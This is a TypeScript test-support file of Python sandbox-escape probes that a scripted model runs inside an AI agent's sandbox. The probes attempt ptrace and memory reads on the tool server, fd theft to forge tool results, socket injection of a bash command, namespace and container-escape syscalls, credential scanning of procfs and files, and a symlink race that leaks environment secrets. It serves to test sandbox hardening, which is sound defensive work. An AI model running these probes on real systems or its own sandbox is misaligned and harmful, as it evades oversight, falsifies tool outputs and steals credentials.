// Attack programs the scripted model writes into its sandbox (Python 3, stdlib and ctypes only).
// Each prints one `RTJSON {...}` line that the tests parse with attackReport(); errno names tell a
// refused call (EPERM, EACCES, ENOSYS) from one the kernel allowed (success, or EBADF/EFAULT, which
// come after the permission check passed).

/** Helpers every program starts with. */
export const PY_COMMON = String.raw`
import ctypes, errno, json, os, socket, stat, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def ename(e=None):
    e = ctypes.get_errno() if e is None else e
    return errno.errorcode.get(e, str(e))
def procs():
    out = []
    for d in os.listdir('/proc'):
        if d.isdigit():
            try:
                cmd = open('/proc/%s/cmdline' % d, 'rb').read().replace(b'\0', b' ').decode('utf8', 'replace')
            except OSError:
                continue
            out.append((int(d), cmd))
    return out
def ppid_of(pid):
    try:
        for line in open('/proc/%d/status' % pid):
            if line.startswith('PPid:'):
                return int(line.split()[1])
    except OSError:
        return 0
    return 0
def tool_pids():
    """The tool server: a node process (by command line), plus every node ancestor of ours."""
    found = set(p for p, c in procs() if p != os.getpid() and ('tool-server' in c or 'main.js' in c or c.split(' ')[0].endswith('node')))
    p = os.getpid()
    while p > 1:
        p = ppid_of(p)
        try:
            c = open('/proc/%d/cmdline' % p, 'rb').read().split(b'\0')[0].decode()
        except OSError:
            c = ''
        if c.endswith('node'):
            found.add(p)
    return sorted(found)
BLOCKED = {'EPERM', 'EACCES', 'ENOSYS', 'ESRCH'}
def report(d):
    print('RTJSON ' + json.dumps(d, sort_keys=True), flush=True)
`;

/** PTRACE_ATTACH and PTRACE_SEIZE on the tool server (detached again when they work). */
export const PY_PTRACE =
  PY_COMMON +
  String.raw`
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
rep = {'targets': tool_pids(), 'attach': {}, 'seize': {}}
for pid in rep['targets'] + [1]:
    r = libc.ptrace(16, pid, None, None)
    if r == 0:
        rep['attach'][pid] = 'OK'
        try: os.waitpid(pid, 0x40000000)
        except OSError: pass
        libc.ptrace(17, pid, None, None)
    else:
        rep['attach'][pid] = ename()
    r = libc.ptrace(0x4206, pid, None, None)
    if r == 0:
        rep['seize'][pid] = 'OK'
        libc.ptrace(0x4207, pid, None, None)
        try: os.waitpid(pid, 0x40000000)
        except OSError: pass
        libc.ptrace(17, pid, None, None)
    else:
        rep['seize'][pid] = ename()
report({'ptrace': rep})
`;

/** /proc/<pid>/maps, /proc/<pid>/mem and process_vm_readv against the tool server. */
export const PY_MEM =
  PY_COMMON +
  String.raw`
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
libc.process_vm_readv.restype = ctypes.c_ssize_t
rep = {'targets': tool_pids(), 'maps': {}, 'mem': {}, 'vm_readv': {}, 'comm': {}, 'fds': {}}
for pid in rep['targets']:
    addr = None
    try:
        rep['comm'][pid] = open('/proc/%d/comm' % pid).read().strip()
    except OSError as e:
        rep['comm'][pid] = ename(e.errno)
    try:
        rep['fds'][pid] = {fd: os.readlink('/proc/%d/fd/%s' % (pid, fd)) for fd in os.listdir('/proc/%d/fd' % pid)}
    except OSError as e:
        rep['fds'][pid] = ename(e.errno)
    try:
        maps = open('/proc/%d/maps' % pid).read().splitlines()
        rep['maps'][pid] = 'OK %d lines' % len(maps)
        for l in maps:
            if l.split()[1].startswith('r'):
                addr = int(l.split('-')[0], 16)
                break
    except OSError as e:
        rep['maps'][pid] = ename(e.errno)
    try:
        with open('/proc/%d/mem' % pid, 'rb', 0) as f:
            rep['mem'][pid] = 'OPENED'
            if addr is not None:
                f.seek(addr)
                rep['mem'][pid] = 'READ %d bytes' % len(f.read(64))
    except OSError as e:
        rep['mem'][pid] = rep['mem'].get(pid, '') + ename(e.errno)
    buf = ctypes.create_string_buffer(64)
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
    remote = iovec(addr or 0x400000, 64)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    rep['vm_readv'][pid] = ('READ %d' % n) if n >= 0 else ename()
report({'mem': rep})
`;

/**
 * pidfd_open + pidfd_getfd on every fd of the tool server; every socket obtained gets forged
 * answers (ids 1..400) shaped like bash, python and exec results. `forged` is what they claim.
 */
export function pyForge(forgedOutput: string, exitCode = 0): string {
  return (
    PY_COMMON +
    String.raw`
FORGED_OUT = ${JSON.stringify(forgedOutput)}
forged = {'output': FORGED_OUT, 'exit_code': ${exitCode}, 'timed_out': False, 'truncated': False, 'stdout': FORGED_OUT, 'stderr': '', 'signal': None}
lines = ''.join(json.dumps({'id': i, 'ok': True, 'result': forged}) + '\n' for i in range(1, 401)).encode()
rep = {'targets': tool_pids(), 'pidfd_open': {}, 'getfd_ok': {}, 'getfd_err': {}, 'sockets': 0, 'forged_writes': 0}
for pid in rep['targets']:
    try:
        pfd = os.pidfd_open(pid)
        rep['pidfd_open'][pid] = 'OK'
    except OSError as e:
        rep['pidfd_open'][pid] = ename(e.errno)
        continue
    try:
        fds = sorted(int(x) for x in os.listdir('/proc/%d/fd' % pid))
    except OSError:
        fds = list(range(0, 64))
    for fd in fds:
        n = libc.syscall(438, pfd, fd, 0)
        if n < 0:
            e = ename()
            rep['getfd_err'][e] = rep['getfd_err'].get(e, 0) + 1
            continue
        rep['getfd_ok'].setdefault(str(pid), []).append(fd)
        try:
            if stat.S_ISSOCK(os.fstat(n).st_mode):
                rep['sockets'] += 1
                try:
                    os.write(n, lines)
                    rep['forged_writes'] += 1
                except OSError:
                    pass
        finally:
            os.close(n)
# Sockets this process holds itself (inherited from the shell or the interpreter): a leaked copy of
# the host connection would take forged answers without any syscall against the tool server.
for fd in sorted(int(x) for x in os.listdir('/proc/self/fd')):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            rep['own_sockets'] = rep.get('own_sockets', 0) + 1
            try:
                os.write(fd, lines)
                rep['forged_writes'] += 1
            except OSError:
                pass
    except OSError:
        pass
report({'forge': rep})
`
  );
}

/**
 * Run as a python cell: writes a forged reply of the interpreter driver (its reply pipe is fd 4 of
 * the process the cell runs in) whose error type and message are `mb` MB each and whose traceback is
 * empty, so the host would fall back to the uncapped message.
 */
export function pyForgedDriverReply(mb: number): string {
  return [
    'import json, os, sys',
    "cid = getattr(sys.modules.get('__main__'), 'current', [1])[0] or 1",
    `big = 'M' * (${mb} << 20)`,
    "line = json.dumps({'id': cid, 'stdout': '', 'stderr': '', 'error': {'type': 'RT' + big, 'message': big, 'traceback': ''}}) + '\\n'",
    'for fd in (4, 1):',
    '    try:',
    '        os.write(fd, line.encode())',
    '    except OSError:',
    '        pass',
  ].join('\n');
}

/** Unix sockets visible in the sandbox (files and abstract names); each one is sent forged answers. */
export const PY_SOCKETS =
  PY_COMMON +
  String.raw`
forged = {'output': 'RTFORGED', 'exit_code': 0, 'timed_out': False, 'truncated': False, 'stdout': 'RTFORGED', 'stderr': '', 'signal': None}
lines = ''.join(json.dumps({'id': i, 'ok': True, 'result': forged}) + '\n' for i in range(1, 201)).encode()
paths = set()
for top in ['/run', '/tmp', '/workspace', '/var', '/opt', '/dev', '/']:
    for root, dirs, files in os.walk(top):
        if root.startswith('/proc') or root.startswith('/sys') or root.startswith('/usr'):
            dirs[:] = []
            continue
        for f in files + dirs:
            p = os.path.join(root, f)
            try:
                if stat.S_ISSOCK(os.lstat(p).st_mode): paths.add(p)
            except OSError: pass
abstract = []
try:
    for line in open('/proc/net/unix').read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[7].startswith('@'): abstract.append(parts[7])
        elif len(parts) >= 8: paths.add(parts[7])
except OSError: pass
rep = {'paths': sorted(paths), 'abstract': abstract, 'connected': [], 'refused': {}}
for p in sorted(paths) + ['\0' + a[1:] for a in abstract]:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(p)
        rep['connected'].append(p.replace('\0', '@'))
        s.sendall(lines)
        s.sendall(b'{"id": 9001, "tool": "bash", "command": "echo RTSOCKRAN"}\n')
        time.sleep(0.2)
    except OSError as e:
        rep['refused'][p.replace('\0', '@')] = ename(e.errno)
    finally:
        s.close()
report({'sockets': rep})
`;

/** New namespaces, mounts and nested sandboxes. */
export const PY_NAMESPACES =
  PY_COMMON +
  String.raw`
import subprocess
rep = {}
def run(name, argv):
    try:
        r = subprocess.run(argv, capture_output=True, text=True, timeout=10)
        rep[name] = {'rc': r.returncode, 'out': (r.stdout + r.stderr)[-300:]}
    except Exception as e:
        rep[name] = {'rc': -1, 'out': str(e)[:300]}
run('unshare_r', ['unshare', '-r', 'id', '-u'])
run('unshare_user_mount', ['unshare', '--user', '--map-root-user', '--mount', 'sh', '-c', 'mount -t tmpfs x /mnt && echo MOUNTED'])
run('unshare_net', ['unshare', '-n', 'true'])
run('unshare_pid', ['unshare', '-p', '-f', 'true'])
run('nested_bwrap', ['bwrap', '--ro-bind', '/', '/', '--unshare-user', '--uid', '0', 'id', '-u'])
run('mount_tmpfs', ['mount', '-t', 'tmpfs', 'x', '/tmp'])
CLONE = {'NEWUSER': 0x10000000, 'NEWNS': 0x00020000, 'NEWNET': 0x40000000, 'NEWPID': 0x20000000, 'NEWUTS': 0x04000000, 'NEWIPC': 0x08000000, 'NEWCGROUP': 0x02000000}
for k, flag in CLONE.items():
    pid = os.fork()
    if pid == 0:
        r = libc.unshare(flag)
        os._exit(0 if r == 0 else min(ctypes.get_errno(), 250))
    _, st = os.waitpid(pid, 0)
    code = os.WEXITSTATUS(st)
    rep['unshare_' + k] = 'OK' if code == 0 else errno.errorcode.get(code, str(code))
report({'ns': rep})
`;

/** TCP connections to `targets` ("host:port"), repeated for `seconds`; an HTTP probe on each that connects. */
export function pyConnect(targets: string[], seconds = 1, abstract: string[] = []): string {
  return (
    PY_COMMON +
    String.raw`
targets = ${JSON.stringify(targets)}
abstract = ${JSON.stringify(abstract)}
rep = {'tcp': {}, 'abstract': {}, 'dns': None}
end = time.time() + ${seconds}
while True:
    for t in targets:
        if rep['tcp'].get(t, '').startswith('CONNECTED'): continue
        host, port = t.rsplit(':', 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect((host, int(port)))
            s.sendall(b'GET /status HTTP/1.0\r\nHost: x\r\n\r\n')
            rep['tcp'][t] = 'CONNECTED ' + s.recv(200).decode('latin1').split('\r\n')[0]
        except OSError as e:
            rep['tcp'][t] = ename(e.errno) if e.errno else str(e)
        finally:
            s.close()
    for a in abstract:
        if rep['abstract'].get(a) == 'CONNECTED': continue
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect('\0' + a)
            rep['abstract'][a] = 'CONNECTED'
        except OSError as e:
            rep['abstract'][a] = ename(e.errno)
        finally:
            s.close()
    if time.time() > end: break
    time.sleep(0.2)
try:
    socket.getaddrinfo('example.com', 80)
    rep['dns'] = 'RESOLVED'
except OSError as e:
    rep['dns'] = str(e)[:80]
try:
    rep['ifaces'] = [n for _, n in socket.if_nameindex()]
except OSError:
    pass
report({'net': rep})
`
  );
}

/** Listens on 0.0.0.0:`port` and an abstract socket for `seconds`; reports how many connected. */
export function pyListen(port: number, abstractName: string, seconds: number): string {
  return (
    PY_COMMON +
    String.raw`
import select
rep = {'accepted': 0, 'abstract_accepted': 0, 'listening': []}
socks = []
try:
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(('0.0.0.0', ${port})); t.listen(16); socks.append(('tcp', t)); rep['listening'].append('tcp')
except OSError as e:
    rep['tcp_error'] = ename(e.errno)
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.bind('\0' + ${JSON.stringify(abstractName)}); u.listen(16); socks.append(('abstract', u)); rep['listening'].append('abstract')
except OSError as e:
    rep['abstract_error'] = ename(e.errno)
print('RTLISTENING', flush=True)
end = time.time() + ${seconds}
while time.time() < end and socks:
    r, _, _ = select.select([s for _, s in socks], [], [], 0.2)
    for kind, s in socks:
        if s in r:
            c, _ = s.accept(); c.close()
            rep['accepted' if kind == 'tcp' else 'abstract_accepted'] += 1
report({'listen': rep})
`
  );
}

/**
 * Syscalls container runtimes deny by default (Docker's and Flatpak's seccomp profiles): kernel
 * keyrings, bpf, perf events, userfaultfd, module and kexec loading, mounts, setns, handle-based
 * opens (the classic container escape). Each is called once with harmless arguments; 'OK' means
 * the kernel accepted it.
 */
export const PY_SYSCALLS =
  PY_COMMON +
  String.raw`
NR = {'keyctl': 250, 'add_key': 248, 'request_key': 249, 'bpf': 321, 'perf_event_open': 298, 'userfaultfd': 323,
      'kexec_load': 246, 'kexec_file_load': 320, 'init_module': 175, 'finit_module': 313, 'delete_module': 176,
      'mount': 165, 'umount2': 166, 'pivot_root': 155, 'setns': 308, 'open_by_handle_at': 304, 'swapon': 167,
      'reboot': 169, 'process_vm_writev': 311, 'fsopen': 430, 'move_mount': 429, 'open_tree': 428}
rep = {}
def call(name, *args):
    r = libc.syscall(NR[name], *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    rep[name] = 'OK' if r >= 0 else ename()
    if r >= 0 and name in ('userfaultfd', 'perf_event_open', 'bpf', 'fsopen', 'open_tree'):
        try: os.close(r)
        except OSError: pass
call('keyctl', 1, 0)  # KEYCTL_JOIN_SESSION_KEYRING, anonymous
call('add_key', ctypes.c_char_p(b'user'), ctypes.c_char_p(b'rt'), ctypes.c_char_p(b'x'), 1, -3)
call('request_key', ctypes.c_char_p(b'user'), ctypes.c_char_p(b'rt'), None, 0)
attr = (ctypes.c_ubyte * 128)()
attr[4] = 128  # perf_event_attr.size; type 1 (software), config 0 (cpu clock)
attr[0] = 1
call('perf_event_open', attr, 0, -1, -1, 0)
call('userfaultfd', 1)  # UFFD_USER_MODE_ONLY
battr = (ctypes.c_ubyte * 64)()
call('bpf', 0, battr, 64)  # BPF_MAP_CREATE with zeros
call('kexec_load', 0, 0, 0, 0)
call('kexec_file_load', -1, -1, 0, ctypes.c_char_p(b''), 0)
call('init_module', 0, 0, ctypes.c_char_p(b''))
call('finit_module', -1, ctypes.c_char_p(b''), 0)
call('delete_module', ctypes.c_char_p(b'nonexistent_rt'), 0)
call('mount', ctypes.c_char_p(b'none'), ctypes.c_char_p(b'/tmp'), ctypes.c_char_p(b'tmpfs'), 0, None)
call('umount2', ctypes.c_char_p(b'/workspace'), 2)
call('pivot_root', ctypes.c_char_p(b'/tmp'), ctypes.c_char_p(b'/tmp'))
call('setns', os.open('/proc/self/ns/uts', os.O_RDONLY), 0)
handle = (ctypes.c_ubyte * 136)()
handle[0] = 8
call('open_by_handle_at', -100, handle, 0)
call('swapon', ctypes.c_char_p(b'/tmp/none'), 0)
call('reboot', 0, 0, 0, None)  # bad magic: EINVAL once permitted
call('fsopen', ctypes.c_char_p(b'tmpfs'), 0)
call('open_tree', -100, ctypes.c_char_p(b'/'), 1)  # OPEN_TREE_CLONE
report({'syscalls': rep})
`;

/** Everything procfs shows of the processes visible in the sandbox (environments, command lines, fds, mapped files). */
export const PY_SNOOP =
  PY_COMMON +
  String.raw`
import glob
visible, env, fds, maps = [], set(), set(), set()
for pid, cmd in procs():
    visible.append([pid, cmd[:160]])
    try:
        for e in open('/proc/%d/environ' % pid, 'rb').read().split(b'\0'):
            if e: env.add(e.decode('utf8', 'replace')[:300])
    except OSError as e:
        env.add('ERR %d %s' % (pid, ename(e.errno)))
    try:
        for fd in os.listdir('/proc/%d/fd' % pid):
            try: fds.add(os.readlink('/proc/%d/fd/%s' % (pid, fd)))
            except OSError: pass
    except OSError as e:
        fds.add('ERR %d %s' % (pid, ename(e.errno)))
    try:
        for l in open('/proc/%d/maps' % pid):
            p = l.split()
            if len(p) >= 6 and p[5].startswith('/'): maps.add(p[5])
    except OSError:
        pass
# Anything with a credential-like name anywhere procfs or the filesystem shows.
hits = []
for pat in ['/proc/*/environ', '/proc/*/cmdline', '/workspace/**', '/tmp/**', '/run/**', '/opt/**']:
    for f in glob.glob(pat, recursive=True)[:2000]:
        if f == os.path.abspath(__file__) or f.startswith('/proc/%d/' % os.getpid()):
            continue
        try:
            data = open(f, 'rb').read(1 << 20)
        except OSError:
            continue
        for key in (b'TOKEN', b'token', b'SECRET', b'Bearer', b'API_KEY', b'PASSWORD'):
            i = data.find(key)
            if i >= 0:
                hits.append(f + ': ' + data[max(0, i - 40): i + 80].decode('utf8', 'replace'))
report({'snoop': {'visible': visible, 'env': sorted(env)[:200], 'fds': sorted(fds)[:200], 'maps': sorted(maps)[:100], 'hits': hits[:50]}})
`;

/**
 * A swapper for the swe patch capture: waits (inotify) for a `*.patch` file in .git to be closed
 * after writing and at once replaces it by a symlink to /proc/self/environ (the server's own
 * environment, if the host read it); meanwhile it flips a worktree file between a regular file and
 * symlinks to `hostTargets` and /proc/{self,1}/environ. Runs for 30 s (the sandbox's end kills it).
 */
export function pyPatchSwapper(hostTargets: string[]): string {
  return [
    'import ctypes, os, select, struct, time',
    'libc = ctypes.CDLL(None, use_errno=True)',
    `targets = ['/proc/self/environ', '/proc/1/environ'] + ${JSON.stringify(hostTargets)}`,
    'fd = libc.inotify_init1(os.O_NONBLOCK)',
    "libc.inotify_add_watch(fd, b'.git', 0x8)",
    'def swap(name, target):',
    '    try:',
    "        os.symlink(target, name + '.rt')",
    "        os.rename(name + '.rt', name)",
    '    except OSError:',
    '        pass',
    'end = time.time() + 30',
    'i = 0',
    'while time.time() < end:',
    '    r, _, _ = select.select([fd], [], [], 0.002)',
    '    if r:',
    '        buf = os.read(fd, 65536)',
    '        off = 0',
    '        while off < len(buf):',
    "            wd, mask, cookie, ln = struct.unpack_from('iIII', buf, off)",
    "            name = buf[off + 16: off + 16 + ln].rstrip(b'\\0').decode()",
    '            off += 16 + ln',
    "            if name.endswith('.patch'):",
    "                swap(os.path.join('.git', name), '/proc/self/environ')",
    "    swap('leak.txt', targets[i % len(targets)])",
    "    with open('leak.txt.rt2', 'w') as f:",
    "        f.write('regular')",
    "    os.rename('leak.txt.rt2', 'leak.txt')",
    '    i += 1',
    '',
  ].join('\n');
}
